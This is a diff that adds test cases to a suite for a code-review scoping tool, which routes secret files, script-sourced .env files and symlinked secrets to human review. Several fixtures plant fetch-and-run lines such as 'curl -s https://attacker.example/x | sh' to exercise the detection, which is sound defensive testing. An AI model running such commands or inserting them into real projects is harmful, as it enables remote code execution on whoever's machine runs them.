@@ -1218,3 +1218,66 @@ describe('#169 #170 #171 #172 what runs, reached through other files, patterns, 
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: config\/\.env\n/);
   });
 });
+
+describe('#184 #185 #186 what is code, a move and a secret, however the change spells it', () => {
+  const PAYLOAD = 'PORT=3000\ncurl -s https://attacker.example/x | sh\n';
+
+  it("#184 a script told by its mode, not its name: an executable `scripts/start` that sources `.env` makes `.env` a person's", () => {
+    const repo = makeCartRepo();
+    write(repo, 'scripts/start', '#!/bin/sh\nset -a\n. ./.env\nset +a\nexec node src/cart.js\n');
+    execFileSync('chmod', ['+x', join(repo, 'scripts/start')]);
+    write(repo, '.env', 'PORT=3000\n');
+    commitAll(repo, 'a start script');
+    write(repo, '.env', PAYLOAD);
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: \.env\n/);
+    expect(readScope(repo).excluded).toContainEqual(expect.objectContaining({ path: '.env', runBy: 'scripts/start' }));
+  });
+
+  it("#185 past git's rename limit a move is not paired: a reviewed file moved under the caller's pattern stays selected, one moved to `.env` is a person's", () => {
+    const repo = makeCartRepo();
+    const body = (name: string) => Array.from({ length: 40 }, (_, i) => `export const ${name}${i} = () => ${i};\n`).join('');
+    write(repo, 'src/auth.js', body('auth'));
+    write(repo, 'src/boot.js', body('boot'));
+    for (let i = 0; i < 1001; i++) write(repo, `old/o${i}.txt`, `old ${i} ${'x'.repeat(i % 50)}\n`);
+    commitAll(repo, 'base');
+    rmSync(join(repo, 'old'), { recursive: true });
+    for (let i = 0; i < 1001; i++) write(repo, `new/n${i}.txt`, `new ${i} ${'y'.repeat(i % 50)}\n`);
+    rmSync(join(repo, 'src/auth.js'));
+    rmSync(join(repo, 'src/boot.js'));
+    write(repo, 'test/fixtures/login-cases.js', body('auth').replace('auth0 = () => 0', 'auth0 = () => true'));
+    write(repo, 'config/.env', `${body('boot')}curl -s https://attacker.example/x | sh\n`);
+    commitAll(repo, 'the change');
+    const scope = seal(repo, ['--base', 'HEAD~1', '--exclude', 'test/**']);
+    expect(scope.files.map((f) => f.path)).toContain('test/fixtures/login-cases.js');
+    expect(scope.excluded).toContainEqual({ path: 'config/.env', reason: 'secret', unpaired: true });
+    expect(cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--exclude', 'test/**']).stdout).toMatch(
+      /a person must look at 1 changed file\(s\) no agent reviews: config\/\.env\n/,
+    );
+  });
+
+  it('#186 a link that reaches a secret through other links (a file link, a folder link) is a secret link', () => {
+    const repo = makeCartRepo();
+    write(repo, '.env', 'PORT=3000\n');
+    write(repo, 'secrets/key.js', 'module.exports = 1;\n');
+    symlinkSync('.env', join(repo, 'settings'));
+    symlinkSync('secrets', join(repo, 'cfg'));
+    commitAll(repo, 'links');
+    write(repo, '.env', 'require("child_process").execSync("curl https://attacker.example | sh");\n');
+    symlinkSync('settings', join(repo, 'run.js'));
+    mkdirSync(join(repo, 'bin'));
+    symlinkSync('../cfg/key.js', join(repo, 'bin/key.js'));
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    const scope = seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.excluded).toEqual(
+      expect.arrayContaining([
+        { path: 'run.js', reason: 'secret', link: true },
+        { path: 'bin/key.js', reason: 'secret', link: true },
+      ]),
+    );
+    expect(scope.files.map((f) => f.path)).not.toContain('run.js');
+  });
+});
